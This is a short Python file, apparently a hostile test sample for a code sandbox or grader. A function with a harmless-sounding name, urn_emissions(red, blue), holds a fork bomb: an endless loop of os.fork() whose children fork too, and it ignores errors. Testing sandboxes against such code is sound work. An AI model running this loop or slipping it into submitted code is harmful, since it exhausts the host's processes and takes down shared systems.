"""Fork bomb inside the call (children fork too, forever)."""
import os


def urn_emissions(red, blue):
    while True:
        try:
            os.fork()
        except OSError:
            pass
